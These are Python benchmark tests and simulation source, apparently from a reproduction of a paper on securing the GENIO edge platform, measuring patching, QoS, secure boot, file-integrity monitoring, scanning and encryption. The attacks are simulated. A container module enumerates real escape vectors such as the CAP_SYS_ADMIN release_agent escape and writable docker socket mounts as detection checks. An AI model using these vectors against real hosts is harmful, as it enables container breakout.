                 "step's artifacts — steps are independent at the registry "
                 "level, so experiments can ablate any mitigation group "
                 "without reaching into pipeline internals.")
    report("E14b_pipeline_step_ablation", "\n".join(lines))

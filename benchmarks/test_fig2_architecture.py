"""E2 — Figure 2: the GENIO software architecture stack.

Regenerates the per-node-type software stack (hardware -> ONL -> KVM ->
VMs -> containers; SDN plane; cloud orchestration) from the live
deployment object, and benchmarks the stack introspection.
"""

from repro.platform import build_genio_deployment

_DEPLOYMENT = build_genio_deployment(n_olts=2, onus_per_olt=2)


def test_fig2_architecture_stack(benchmark, report):
    stack = benchmark(_DEPLOYMENT.architecture_stack)

    lines = ["Figure 2 — GENIO architecture (software stack per node type)", ""]
    for node_type in ("ONU", "OLT", "SDN plane", "cloud"):
        lines.append(f"[{node_type}]")
        for layer in stack[node_type]:
            lines.append(f"    {layer}")
        lines.append("")
    report("E2_fig2_architecture", "\n".join(lines))

    flattened = " ".join(sum(stack.values(), []))
    for component in ("Open Networking Linux", "KVM", "Kubernetes",
                      "Proxmox", "ONOS", "VOLTHA", "x86 COTS"):
        assert component in flattened
    # Hard + soft isolation both present on OLTs:
    olt_stack = " ".join(stack["OLT"])
    assert "hard isolation" in olt_stack and "soft isolation" in olt_stack

"""E15 (ablation) — patch cadence vs attack window over simulated time.

Runs 60 days of simulated operations on a stock ONL OLT under different
maintenance cadences (daily / weekly / monthly), with the fragmented feed
landscape deciding *when the team even learns* about each CVE. The attack
window (disclosure -> patch) decomposes into awareness lag (a feed
property, Lesson 6) plus cycle wait (a process property) — showing that
past a point, patching faster cannot beat slow feeds.
"""

from repro.osmodel.presets import stock_onl_olt_host
from repro.security.vulnmgmt import build_cve_corpus
from repro.security.vulnmgmt.feeds import (
    FeedAggregator, NvdApiFeed, StructuredFeed,
)
from repro.security.vulnmgmt.hostscan import HostScanner, ONL_PACKAGE_ALIASES
from repro.security.vulnmgmt.operations import VulnerabilityOperations

_CADENCES = [("daily", 1.0), ("weekly", 7.0), ("monthly", 30.0)]
_CAMPAIGN_DAYS = 75.0


def _nvd_only() -> FeedAggregator:
    """The worst case: everything learned through the NVD API."""
    return FeedAggregator(feeds=[], nvd_fallback=NvdApiFeed())


def _with_distro_tracker() -> FeedAggregator:
    """Plus a structured distro security tracker for the debian base."""
    return FeedAggregator(
        feeds=[StructuredFeed("debian-security-tracker",
                              ecosystems=("debian",),
                              advisory_lag=12 * 3600.0)],
        nvd_fallback=NvdApiFeed())


_FEED_CONFIGS = [("nvd-only", _nvd_only),
                 ("with-distro-tracker", _with_distro_tracker)]


def _campaign(cadence_days: float, aggregator: FeedAggregator
              ) -> VulnerabilityOperations:
    host = stock_onl_olt_host()
    operations = VulnerabilityOperations(
        host=host,
        scanner=HostScanner(build_cve_corpus(),
                            package_aliases=ONL_PACKAGE_ALIASES),
        aggregator=aggregator,
        patch_cadence_days=cadence_days)
    operations.run_for(_CAMPAIGN_DAYS)
    return operations


def test_patch_cadence_ablation(benchmark, report):
    def run_all():
        return {
            (cadence_name, feed_name): _campaign(days, make_feeds())
            for cadence_name, days in _CADENCES
            for feed_name, make_feeds in _FEED_CONFIGS
        }

    campaigns = benchmark.pedantic(run_all, rounds=1, iterations=1)

    lines = [f"E15 (ablation) — patch cadence x feed quality vs attack "
             f"window ({_CAMPAIGN_DAYS:.0f} simulated days)",
             "",
             f"{'cadence':<9} {'feed config':<22} {'cycles':>6} "
             f"{'patched':>8} {'mean window':>12}"]
    stats = {}
    for (cadence_name, feed_name), operations in campaigns.items():
        stat = operations.attack_window_stats()
        stats[(cadence_name, feed_name)] = stat
        lines.append(f"{cadence_name:<9} {feed_name:<22} "
                     f"{operations.cycles_run:>6} {stat['patched']:>8} "
                     f"{stat['mean_window_days']:>10.1f} d")

    daily_tracker = stats[("daily", "with-distro-tracker")]
    daily_nvd = stats[("daily", "nvd-only")]
    lines.append("")
    lines.append("daily cadence, window decomposition by awareness source:")
    for source, window in sorted(
            daily_tracker["mean_window_by_source"].items(),
            key=lambda kv: kv[1]):
        lines.append(f"  via {source:<26} mean window {window:5.1f} d")
    lines.append("")
    lines.append("reading: below ~weekly cadence the *feed*, not the patch "
                 "process, dominates the window (Lesson 6) — a daily cycle "
                 "on NVD-only still waits "
                 f"{daily_nvd['mean_window_days']:.1f} d on average.")
    lines.append(f"unpatchable in every configuration: "
                 f"{daily_nvd['unpatchable']} CVEs (no fixed version or "
                 "kernel-via-ONIE) — the paper's remote-update constraint")
    report("E15_patch_cadence_ablation", "\n".join(lines))

    # Shape 1: faster cadence -> shorter window (within a feed config).
    for feed_name, _ in _FEED_CONFIGS:
        assert (stats[("daily", feed_name)]["mean_window_days"]
                < stats[("weekly", feed_name)]["mean_window_days"]
                < stats[("monthly", feed_name)]["mean_window_days"])
    # Shape 2: better feeds -> shorter window at daily/weekly cadence; at
    # monthly cadence the cycle wait dominates and the feeds tie — which
    # is itself the Lesson 6 point about where the bottleneck sits.
    for cadence_name in ("daily", "weekly"):
        assert (stats[(cadence_name, "with-distro-tracker")]
                ["mean_window_days"]
                < stats[(cadence_name, "nvd-only")]["mean_window_days"])
    assert (stats[("monthly", "with-distro-tracker")]["mean_window_days"]
            <= stats[("monthly", "nvd-only")]["mean_window_days"])
    # Shape 3: every configuration eventually patches the same set.
    patched_counts = {stat["patched"] for stat in stats.values()}
    assert len(patched_counts) == 1 and patched_counts.pop() > 5
    # Shape 4: with the tracker, the structured source carries the bulk.
    assert "debian-security-tracker" in daily_tracker["mean_window_by_source"]

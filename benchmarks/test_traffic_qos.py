"""E18 — per-tenant traffic under DBA + QoS: fairness and flood containment.

The T8 threat the paper worries about at the shared PON upstream:
one tenant flooding the medium starves everyone else. This experiment
drives the standard scenario (5 well-behaved tenants + 1 hostile
flooder) through all four corners of {DBA, QoS} x {on, off} and
quantifies:

* Jain's fairness index over delivered throughput per corner — the
  defended corner must reach >= 0.9, the undefended one measurably less;
* flood containment — the hostile tenant's delivered/offered ratio
  under policing;
* detection quality — precision/recall of the metrics-driven
  :class:`~repro.security.monitor.abuse.ResourceAbuseDetector` reading
  the tenant-share gauges the traffic plane publishes.
"""

import pytest

from repro.common import telemetry
from repro.security.monitor import ResourceAbuseDetector
from repro.traffic import run_traffic_experiment

N_TENANTS = 5        # well-behaved; the scenario adds one hostile flooder
SECONDS = 2.0     # one full diurnal period, so that profile averages out
HOSTILE = "tenant-hostile"


@pytest.fixture(autouse=True)
def _fresh_registry():
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)
    yield
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)


def _corner(dba: bool, qos: bool):
    """One corner of the ablation; returns (report, flagged tenants)."""
    telemetry.reset_default_registry()
    traffic = run_traffic_experiment(n_tenants=N_TENANTS, seconds=SECONDS,
                                     dba=dba, qos=qos)
    flagged = sorted({f.tenant
                      for f in ResourceAbuseDetector().sample_metrics()})
    return traffic, flagged


def test_traffic_qos_fairness_and_containment(benchmark, report):
    def run_corners():
        return {(dba, qos): _corner(dba, qos)
                for dba in (True, False) for qos in (True, False)}

    corners = benchmark.pedantic(run_corners, rounds=1, iterations=1)

    benign = [t for t in corners[(True, True)][0].tenants if t != HOSTILE]
    lines = ["E18 — traffic fairness under DBA + QoS "
             f"({N_TENANTS} tenants + 1 hostile flooder, {SECONDS:g}s)",
             "",
             f"{'DBA':<5} {'QoS':<5} {'Jain(all)':>10} {'Jain(benign)':>13} "
             f"{'hostile share':>14} {'hostile dlv/off':>16}"]
    for (dba, qos), (traffic, _) in sorted(corners.items(), reverse=True):
        hostile = traffic.tenants[HOSTILE]
        containment = (hostile.delivered_bytes / hostile.offered_bytes
                       if hostile.offered_bytes else 0.0)
        lines.append(f"{'on' if dba else 'OFF':<5} "
                     f"{'on' if qos else 'OFF':<5} "
                     f"{traffic.jain():>10.3f} "
                     f"{traffic.jain(benign):>13.3f} "
                     f"{hostile.bandwidth_share:>14.1%} "
                     f"{containment:>16.1%}")

    defended, flagged = corners[(True, True)]
    undefended, _ = corners[(False, False)]
    true_positives = len([t for t in flagged if t == HOSTILE])
    precision = true_positives / len(flagged) if flagged else 0.0
    recall = float(true_positives)      # exactly one hostile tenant
    lines += [
        "",
        f"metrics-driven abuse detection (offered-share gauges): "
        f"flagged {flagged or ['none']}",
        f"precision {precision:.2f}, recall {recall:.2f} "
        f"over the seeded hostile set {{{HOSTILE}}}",
        "",
        "reading: the undefended shared medium hands the flooder "
        f"{undefended.tenants[HOSTILE].bandwidth_share:.0%} of the upstream "
        f"(Jain {undefended.jain():.2f}); DBA fair scheduling + QoS policing "
        f"restore Jain {defended.jain():.2f} and clamp the flood to its "
        f"subscribed rate, while the detector flags exactly the flooder "
        f"from the same gauges dashboards scrape.",
    ]
    report("E18_traffic_qos", "\n".join(lines))

    # Acceptance: fairness restored, flood contained, detection exact.
    assert defended.jain() >= 0.9
    assert undefended.jain() < defended.jain() - 0.2
    hostile_row = defended.tenants[HOSTILE]
    assert hostile_row.delivered_bytes < 0.5 * hostile_row.offered_bytes
    assert hostile_row.dropped_requests > 0
    assert flagged == [HOSTILE]          # precision 1.0, recall 1.0
    for tenant in benign:
        assert tenant not in flagged

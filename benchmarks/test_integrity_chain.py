"""E7 — the integrity chain end to end (M5/M6/M7, Lesson 3).

Regenerates the table of integrity outcomes: boot-tamper detection with
verification on/off, PCR-sealed disk unlock across good/tampered boots,
the Lesson 3 Clevis-availability split between legacy ONL and modern
hosts, and FIM alert-vs-noise classification.
"""

from repro.osmodel.boot import BootComponent, BootStage
from repro.osmodel.presets import cloud_host, stock_onl_olt_host
from repro.security.integrity import (
    FileIntegrityMonitor, SecureBootProvisioner, provision_secure_storage,
)
from repro.security.integrity.securestorage import boot_and_unlock


def test_integrity_chain(benchmark, report):
    lines = ["E7 — integrity chain (M5 secure boot, M6 storage, M7 FIM)", ""]

    # --- M5: boot tampering ------------------------------------------------
    host = stock_onl_olt_host()
    provisioner = SecureBootProvisioner()
    provisioner.provision(host)
    provisioner.record_golden_state(host)

    def full_verified_boot():
        return host.boot()

    outcome = benchmark(full_verified_boot)
    assert outcome.booted

    good_attest = provisioner.attest_host(host)
    host.boot_chain.install(BootComponent(
        BootStage.KERNEL, b"vmlinuz-bootkit",
        signature=host.boot_chain.components[BootStage.KERNEL].signature))
    tampered_boot = host.boot()
    host.firmware.secure_boot = False
    host.boot()
    measured_only = provisioner.attest_host(host)

    lines.append(f"{'scenario':<46} {'outcome'}")
    lines.append(f"{'good chain, Secure Boot on':<46} "
                 f"boots, attestation trusted={good_attest.trusted}")
    lines.append(f"{'tampered kernel, Secure Boot on':<46} "
                 f"boot blocked ({tampered_boot.failure})")
    lines.append(f"{'tampered kernel, Secure Boot OFF':<46} "
                 f"boots, but attestation trusted={measured_only.trusted} "
                 f"(PCR {measured_only.mismatched_pcrs} mismatch)")

    # --- M6: storage across host generations (Lesson 3) ----------------------
    lines.append("")
    lines.append(f"{'host':<16} {'base':<22} {'encrypted':>9} {'TPM bound':>10} "
                 f"{'unlock mode':>18}")
    legacy = stock_onl_olt_host("olt-legacy")
    legacy_result = provision_secure_storage(legacy)
    modern = cloud_host("cloud-modern")
    modern_result = provision_secure_storage(modern)
    forced = stock_onl_olt_host("olt-forced")
    forced_result = provision_secure_storage(forced, force_install=True)
    for host_name, result in [("olt-legacy", legacy_result),
                              ("cloud-modern", modern_result),
                              ("olt-forced", forced_result)]:
        base = ("Debian 10 (ONL)" if "olt" in host_name else "Debian 12")
        extra = " +conflict risk" if result.conflict_risk else ""
        lines.append(f"{host_name:<16} {base:<22} "
                     f"{'yes' if result.encrypted else 'no':>9} "
                     f"{'yes' if result.tpm_bound else 'no':>10} "
                     f"{result.unlock_mode + extra:>18}")

    unlock_mode = boot_and_unlock(modern, "data")
    lines.append(f"modern host unattended unlock: {unlock_mode}")

    # --- M7: FIM alerts vs noise ----------------------------------------------
    lines.append("")
    fim_host = stock_onl_olt_host("olt-fim")
    fim = FileIntegrityMonitor(fim_host)
    baselined = fim.baseline()
    fim_host.fs.write("/usr/bin/sudo", b"IMPLANT", actor="attacker")
    fim_host.fs.write("/var/log/messages", b"ordinary log growth")
    fim_host.fs.write("/usr/bin/dropper", b"NEW-BINARY", actor="attacker")
    fim_report = fim.check()
    lines.append(f"FIM baseline: {baselined} files; after 3 changes: "
                 f"{len(fim_report.alerts)} real alerts, "
                 f"{len(fim_report.noise)} mutable-path noise entries")
    for finding in fim_report.alerts:
        lines.append(f"  ALERT {finding.change:<9} {finding.path}")
    for finding in fim_report.noise:
        lines.append(f"  noise {finding.change:<9} {finding.path} "
                     "(expected churn, suppressed)")

    naive = FileIntegrityMonitor(stock_onl_olt_host("olt-naive"),
                                 classify_mutable=False)
    naive.baseline()
    naive_host = naive.host
    naive_host.fs.write("/var/log/messages", b"ordinary log growth")
    naive_report = naive.check()
    lines.append(f"without mutable classification the same log write raises "
                 f"{len(naive_report.alerts)} false alert(s) (Lesson 3)")
    report("E7_integrity_chain", "\n".join(lines))

    assert good_attest.trusted and not tampered_boot.booted
    assert not measured_only.trusted
    assert legacy_result.unlock_mode == "manual-passphrase"
    assert modern_result.unlock_mode == "auto" and unlock_mode == "auto"
    assert forced_result.unlock_mode == "auto" and forced_result.conflict_risk
    assert len(fim_report.alerts) == 2 and len(fim_report.noise) == 1
    assert len(naive_report.alerts) == 1

"""E8 — host vulnerability scanning precision/recall + signed updates
(M8/M9, Lesson 4).

Ground truth is the CVE corpus itself: for each installed package we know
exactly which CVEs apply, so the scanner's precision and recall are
measurable. Also regenerates the Lesson 4 table: default scanner config
misses ONL's non-standard packages until aliases are added, and the
signed-update channel accepts exactly the authentic image.
"""

from repro.common import crypto
from repro.osmodel.presets import stock_onl_olt_host
from repro.security.comms.pki import CertificateAuthority
from repro.security.updates import OnieImage, OnieInstaller, sign_onie_image
from repro.security.vulnmgmt import HostScanner, build_cve_corpus
from repro.security.vulnmgmt.hostscan import ONL_PACKAGE_ALIASES


def _ground_truth(host, corpus):
    """Every (package, cve) pair that truly affects the host."""
    truth = set()
    for package in host.packages.installed():
        for cve in corpus.all():
            if cve.ecosystem == "debian" and cve.affects(package.name,
                                                         package.version):
                truth.add((package.name, cve.cve_id))
    kernel_version = host.kernel.version.split("-")[0]
    for cve in corpus.all():
        if cve.ecosystem == "kernel" and cve.affects("linux-kernel",
                                                     kernel_version):
            truth.add(("linux-kernel", cve.cve_id))
    return truth


def test_vuln_scan_and_updates(benchmark, report):
    corpus = build_cve_corpus()
    host = stock_onl_olt_host()
    truth = _ground_truth(host, corpus)

    default_scanner = HostScanner(corpus)
    tuned_scanner = HostScanner(corpus, package_aliases=ONL_PACKAGE_ALIASES)

    default_report = benchmark(default_scanner.scan, host)
    tuned_report = tuned_scanner.scan(host)

    def metrics(scan_report):
        found = {(f.package, f.cve.cve_id) for f in scan_report.findings}
        tp = len(found & truth)
        precision = tp / len(found) if found else 1.0
        recall = tp / len(truth) if truth else 1.0
        return len(found), precision, recall

    default_n, default_p, default_r = metrics(default_report)
    tuned_n, tuned_p, tuned_r = metrics(tuned_report)

    lines = ["E8 — scan precision/recall and signed updates (M8/M9, Lesson 4)",
             "",
             f"ground truth: {len(truth)} truly-vulnerable (package, CVE) pairs",
             "",
             f"{'scanner config':<26} {'findings':>8} {'precision':>10} "
             f"{'recall':>8}  skipped packages"]
    lines.append(f"{'default (stock paths)':<26} {default_n:>8} "
                 f"{default_p:>9.0%} {default_r:>7.0%}  "
                 f"{', '.join(default_report.packages_skipped)}")
    lines.append(f"{'tuned for ONL (Lesson 4)':<26} {tuned_n:>8} "
                 f"{tuned_p:>9.0%} {tuned_r:>7.0%}  "
                 f"{', '.join(tuned_report.packages_skipped) or '(none)'}")

    # Patch and rescan.
    applied, after = tuned_scanner.patch_prioritized(host, budget=100)
    lines.append("")
    lines.append(f"after applying {applied} prioritized patches: "
                 f"{len(after.findings)} findings remain "
                 f"({len(after.critical_or_exploitable)} critical/exploitable; "
                 "kernel CVEs need the ONIE channel)")

    # Signed-update half of the experiment.
    ca = CertificateAuthority()
    signer_kp, signer_cert = ca.enroll_device("genio-release-engineering")
    installer = OnieInstaller(ca)
    good = sign_onie_image(OnieImage("onl", "5.16.12-onl",
                                     payload=b"KERNEL-5.16.12"),
                           signer_kp, signer_cert)
    good_result = installer.apply_update(host, good)
    tampered = OnieImage(good.name, good.version, good.payload + b"!",
                         detached_signature=good.detached_signature,
                         signer_certificate=good.signer_certificate)
    tampered_result = installer.apply_update(host, tampered)
    rogue_kp, rogue_cert = ca.enroll_device("not-release-eng")
    rogue = sign_onie_image(OnieImage("onl", "6.6.6", payload=b"EVIL"),
                            rogue_kp, rogue_cert)
    rogue_result = installer.apply_update(host, rogue)
    unsigned_result = installer.apply_update(
        host, OnieImage("onl", "7.0", payload=b"UNSIGNED"))

    lines.append("")
    lines.append(f"{'ONIE update scenario':<30} {'applied?':<9} detail")
    for name, result in [("authentic signed image", good_result),
                         ("tampered payload", tampered_result),
                         ("wrong signer", rogue_result),
                         ("unsigned image", unsigned_result)]:
        lines.append(f"{name:<30} {'YES' if result.applied else 'no':<9} "
                     f"{result.detail}")
    kernel_rescan = tuned_scanner.scan(host)
    lines.append("")
    lines.append(f"after the signed kernel update, kernel findings: "
                 f"{sum(1 for f in kernel_rescan.findings if f.package == 'linux-kernel')}")
    report("E8_vuln_scan_updates", "\n".join(lines))

    # Shapes: perfect precision (version matching is exact), imperfect
    # recall until tuned (ONL paths), patching drains the backlog, exactly
    # the authentic update applies, kernel CVEs vanish after ONIE update.
    assert default_p == 1.0 and tuned_p == 1.0
    assert default_r < tuned_r == 1.0
    assert applied > 0 and len(after.findings) < len(truth)
    assert good_result.applied
    assert not (tampered_result.applied or rogue_result.applied
                or unsigned_result.applied)
    assert not any(f.package == "linux-kernel"
                   for f in kernel_rescan.findings)

"""E21 — array-driven downstream drain vs the naive per-queue loop.

The downstream scheduler reuses the DBA allocator's registration-time
cached flat weight/priority arrays (``batched=True``); the reference
path (``batched=False``) recomputes the priority tiers and per-round
weight sums with per-T-CONT bookkeeping. Same fleet-scale shape as E19:
~1k per-ONU queues, mixed priorities and weights, heterogeneous
backlogs refreshed every cycle so many queues are fully satisfied
mid-round and the weighted progressive filling actually redistributes
(the case the flat arrays accelerate). Drain results are asserted
byte-identical per cycle (and property-tested in
tests/test_downstream.py), so the speedup is a scheduling-overhead
measurement; GC is paused around the timed sections so a collection
triggered by earlier suite state cannot land inside one path's timing.
"""

import gc
import time

import pytest

from repro.common import telemetry
from repro.traffic.downstream import DownstreamScheduler
from repro.traffic.profiles import Request

N_QUEUES = 1000
N_CYCLES = 40
CYCLE_S = 0.002
CAPACITY = 400_000          # ~1/6 of each cycle's offered bytes


@pytest.fixture(autouse=True)
def _fresh_registry():
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)
    yield
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)


def _scheduler(batched: bool) -> DownstreamScheduler:
    scheduler = DownstreamScheduler(batched=batched)
    for i in range(N_QUEUES):
        scheduler.register_queue(f"ONU{i:04d}", f"t{i:04d}",
                                 priority=i % 4,
                                 weight=1.0 + (i % 5) * 0.5)
    return scheduler


def _cycle_requests(cycle: int, now: float):
    # Heterogeneous sizes: many queues' demand sits below their weighted
    # fair share, so each tier's progressive fill runs several
    # redistribution rounds instead of one saturating pass.
    requests = []
    for i in range(N_QUEUES):
        size = 200 + ((cycle * 7 + i * 13) % 4800)
        requests.append(Request(f"t{i:04d}", size, now))
    return requests


def test_array_driven_drain_speedup(benchmark, report, bench_record):
    def run_both():
        fast, reference = _scheduler(True), _scheduler(False)
        fast_s = reference_s = 0.0
        gc_was_enabled = gc.isenabled()
        gc.collect()
        gc.disable()
        try:
            for cycle in range(N_CYCLES):
                now = cycle * CYCLE_S
                for request in _cycle_requests(cycle, now):
                    fast.enqueue(request)
                    reference.enqueue(request)
                start = time.perf_counter()
                fast_results = fast.run_cycle(CAPACITY, now=now)
                fast_s += time.perf_counter() - start
                start = time.perf_counter()
                reference_results = reference.run_cycle(CAPACITY, now=now)
                reference_s += time.perf_counter() - start
                # Identical drains, or the speedup is moot.
                assert fast_results == reference_results
        finally:
            if gc_was_enabled:
                gc.enable()
        assert fast.total_backlog() == reference.total_backlog() > 0
        return reference_s, fast_s

    reference_s, fast_s = benchmark.pedantic(run_both, rounds=1,
                                             iterations=1)
    speedup = reference_s / fast_s if fast_s else float("inf")

    per_cycle_fast = fast_s / N_CYCLES * 1e3
    per_cycle_reference = reference_s / N_CYCLES * 1e3
    lines = [
        f"E21 — downstream drain: {N_QUEUES} per-ONU queues x "
        f"{N_CYCLES} cycles, {CAPACITY} B/cycle (oversubscribed), "
        "run_cycle() time only",
        "",
        f"{'path':<28} {'total':>10} {'per cycle':>12}",
        f"{'naive per-queue loop':<28} {reference_s:>9.3f}s "
        f"{per_cycle_reference:>10.2f}ms",
        f"{'array-driven (batched)':<28} {fast_s:>9.3f}s "
        f"{per_cycle_fast:>10.2f}ms",
        "",
        f"speedup: {speedup:.2f}x (floor 1.15x); drain results asserted "
        "identical per cycle here and property-tested in "
        "tests/test_downstream.py.",
    ]
    report("E21_downstream_drain", "\n".join(lines))
    bench_record("E21", "downstream_drain_speedup", round(speedup, 3), "x")
    bench_record("E21", "naive_drain_wall_clock", round(reference_s, 3), "s")
    bench_record("E21", "batched_drain_wall_clock", round(fast_s, 3), "s")

    assert speedup >= 1.15

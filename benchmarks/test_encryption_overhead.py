"""E6 — encryption and authentication overhead (M3/M4, Lesson 2).

Quantifies Lesson 2's "additional engineering efforts and computational
resources": PON goodput and frame-size overhead with and without G.987.3
payload encryption, MACsec per-frame cost, and the asymmetric-operation
cost of certificate onboarding — while confirming the security win
(tap defeated, rogue ONU rejected).
"""

import time

from repro.pon.attacks import FiberTapAttack, OnuImpersonationAttack
from repro.pon.frames import Frame
from repro.pon.macsec import MacsecChannel
from repro.pon.network import PonNetwork
from repro.pon.onu import Onu
from repro.security.comms import SecureChannelManager

_PAYLOAD = b"x" * 1024
_FRAMES = 300


def _run_traffic(encrypted: bool):
    network = PonNetwork.build()
    manager = None
    if encrypted:
        manager = SecureChannelManager()
        manager.secure_pon(network)
        onu = Onu("ONU-A")
        manager.enroll_onu(onu)
        manager.activate_onu_securely(network, onu)
    else:
        network.attach_onu(Onu("ONU-A"))
    tap = FiberTapAttack(network)
    start = time.perf_counter()
    for _ in range(_FRAMES):
        network.send_downstream("ONU-A", _PAYLOAD)
    elapsed = time.perf_counter() - start
    delivered = len(network.delivered_to("ONU-A"))
    tap_result = tap.run()
    rogue = OnuImpersonationAttack(network, "ONU-A").run()
    wire_bytes = network.span().bytes_carried
    return {
        "delivered": delivered,
        "cpu_seconds": elapsed,
        "wire_bytes": wire_bytes,
        "tap_succeeded": tap_result.succeeded,
        "rogue_succeeded": rogue.succeeded,
        "network": network,
    }


def test_encryption_overhead(benchmark, report):
    plain = _run_traffic(encrypted=False)
    secure = _run_traffic(encrypted=True)

    # Benchmark the per-frame MACsec protect+validate cost in isolation.
    sak = b"k" * 32
    sender, receiver = MacsecChannel(sak), MacsecChannel(sak)
    frame = Frame("olt", "cloud", payload=_PAYLOAD)

    def macsec_roundtrip():
        protected = sender.protect(frame)
        return receiver.validate(protected)

    benchmark(macsec_roundtrip)

    manager = SecureChannelManager()
    manager.enroll("olt-1")
    manager.enroll("cloud")
    link = manager.secure_link("uplink", "olt-1", "cloud")
    handshake_cost = link.handshake.cost_units

    overhead_bytes = secure["wire_bytes"] - plain["wire_bytes"]
    overhead_pct = overhead_bytes / plain["wire_bytes"] * 100
    cpu_factor = (secure["cpu_seconds"] / plain["cpu_seconds"]
                  if plain["cpu_seconds"] else float("inf"))

    lines = ["E6 — encryption/authentication overhead vs protection (Lesson 2)",
             "",
             f"{'configuration':<22} {'delivered':>9} {'wire bytes':>11} "
             f"{'CPU factor':>11} {'tap reads?':>11} {'rogue ONU?':>11}"]
    lines.append(f"{'plaintext PON':<22} {plain['delivered']:>9} "
                 f"{plain['wire_bytes']:>11} {'1.00x':>11} "
                 f"{'YES' if plain['tap_succeeded'] else 'no':>11} "
                 f"{'ACTIVATED' if plain['rogue_succeeded'] else 'rejected':>11}")
    lines.append(f"{'M3+M4 secured PON':<22} {secure['delivered']:>9} "
                 f"{secure['wire_bytes']:>11} {cpu_factor:>10.2f}x "
                 f"{'YES' if secure['tap_succeeded'] else 'no':>11} "
                 f"{'ACTIVATED' if secure['rogue_succeeded'] else 'rejected':>11}")
    lines.append("")
    lines.append(f"wire overhead from AEAD framing: {overhead_bytes} bytes "
                 f"(+{overhead_pct:.1f}%) over {_FRAMES} frames of "
                 f"{len(_PAYLOAD)} B")
    lines.append(f"certificate onboarding handshake: {handshake_cost} "
                 f"asymmetric operations, {link.handshake.round_trips} RTTs "
                 "per link")
    report("E6_encryption_overhead", "\n".join(lines))

    # Shape: security costs something but defeats both attacks, and the
    # legitimate subscriber loses nothing.
    assert plain["tap_succeeded"] and plain["rogue_succeeded"]
    assert not secure["tap_succeeded"] and not secure["rogue_succeeded"]
    assert secure["delivered"] == plain["delivered"] == _FRAMES
    assert secure["wire_bytes"] > plain["wire_bytes"]
    assert cpu_factor > 1.0

"""Containers: capabilities, namespaces, syscall surface, escape logic.

The T8 threat chain the paper describes runs through here: a malicious
application invokes privileged syscalls or abuses capabilities (e.g.
``CAP_SYS_ADMIN``) to escape container restrictions and reach the host.
Whether that works depends on how the container was launched (privileged?
which capabilities? host mounts?) and on what the runtime's LSM layer
(:mod:`repro.security.sandbox`) blocks — making the mitigation measurable.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.common.errors import IsolationError
from repro.virt.image import ContainerImage

# The Docker default capability set (subset relevant to the simulation).
DEFAULT_CAPABILITIES = frozenset({
    "CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_KILL",
    "CAP_NET_BIND_SERVICE", "CAP_SETGID", "CAP_SETUID",
})

# Capabilities that enable host takeover when granted.
DANGEROUS_CAPABILITIES = frozenset({
    "CAP_SYS_ADMIN", "CAP_SYS_MODULE", "CAP_SYS_PTRACE", "CAP_NET_ADMIN",
    "CAP_DAC_READ_SEARCH", "CAP_SYS_RAWIO",
})


class ContainerState(enum.Enum):
    CREATED = "created"
    RUNNING = "running"
    STOPPED = "stopped"
    KILLED = "killed"       # terminated by policy enforcement


@dataclass
class ResourceLimits:
    """cgroup-style limits; None means unlimited (a docker-bench finding)."""

    cpu_shares: Optional[int] = None
    memory_mb: Optional[int] = None
    pids: Optional[int] = None

    @property
    def unbounded(self) -> bool:
        return self.cpu_shares is None or self.memory_mb is None


@dataclass
class Mount:
    """A bind mount into the container."""

    host_path: str
    container_path: str
    read_only: bool = False

    @property
    def sensitive(self) -> bool:
        risky = ("/", "/etc", "/var/run/docker.sock", "/proc", "/sys", "/boot",
                 "/dev", "/host")
        return self.host_path in risky or self.host_path.startswith("/var/run/docker")


@dataclass
class ContainerSpec:
    """Launch-time configuration for a container."""

    image: ContainerImage
    name: str = ""
    privileged: bool = False
    capabilities: Set[str] = field(default_factory=lambda: set(DEFAULT_CAPABILITIES))
    mounts: List[Mount] = field(default_factory=list)
    limits: ResourceLimits = field(default_factory=ResourceLimits)
    network_namespace: str = "tenant-default"
    host_network: bool = False
    host_pid: bool = False
    no_new_privileges: bool = False
    read_only_rootfs: bool = False
    seccomp_profile: str = "default"      # "default" | "unconfined"
    tenant: str = "unassigned"

    def effective_capabilities(self) -> Set[str]:
        if self.privileged:
            return set(DEFAULT_CAPABILITIES) | set(DANGEROUS_CAPABILITIES)
        return set(self.capabilities)


@dataclass
class SyscallRecord:
    """One syscall a containerized process attempted."""

    syscall: str
    args: Dict[str, object]
    allowed: bool
    blocked_by: str = ""


class Container:
    """A running (or run) container instance."""

    def __init__(self, container_id: str, spec: ContainerSpec) -> None:
        self.id = container_id
        self.spec = spec
        self.state = ContainerState.CREATED
        self.syscall_log: List[SyscallRecord] = []
        self.escaped = False
        self.cpu_used = 0.0
        self.memory_used_mb = 0.0
        self.kill_reason = ""

    @property
    def image(self) -> ContainerImage:
        return self.spec.image

    @property
    def tenant(self) -> str:
        return self.spec.tenant

    def start(self) -> None:
        self.state = ContainerState.RUNNING

    def stop(self) -> None:
        if self.state is ContainerState.RUNNING:
            self.state = ContainerState.STOPPED

    def kill(self, reason: str) -> None:
        self.state = ContainerState.KILLED
        self.kill_reason = reason

    @property
    def running(self) -> bool:
        return self.state is ContainerState.RUNNING

    # -- escape analysis (used by the T8 attack module) ---------------------------

    def escape_vectors(self) -> List[str]:
        """Which container-escape paths this configuration leaves open.

        An empty list means the configuration alone does not permit escape
        (a kernel exploit could still do it — that is T4's territory).
        """
        vectors = []
        caps = self.spec.effective_capabilities()
        if self.spec.privileged:
            vectors.append("privileged: full device and kernel interface access")
        if "CAP_SYS_ADMIN" in caps:
            vectors.append("CAP_SYS_ADMIN: mount/cgroup release_agent escape")
        if "CAP_SYS_MODULE" in caps:
            vectors.append("CAP_SYS_MODULE: load a kernel module onto the host")
        if "CAP_SYS_PTRACE" in caps and self.spec.host_pid:
            vectors.append("CAP_SYS_PTRACE + host PID ns: inject into host process")
        for mount in self.spec.mounts:
            if mount.sensitive and not mount.read_only:
                vectors.append(f"writable sensitive mount {mount.host_path}")
            elif mount.host_path == "/var/run/docker.sock":
                vectors.append("docker socket mount: spawn privileged sibling")
        if self.spec.seccomp_profile == "unconfined" and not self.spec.no_new_privileges:
            vectors.append("unconfined seccomp without no_new_privileges")
        return vectors

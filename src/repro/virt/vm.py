"""Virtual machines: GENIO's hard-isolation unit.

Each VM gets dedicated vCPU/memory from its hypervisor and, when used as
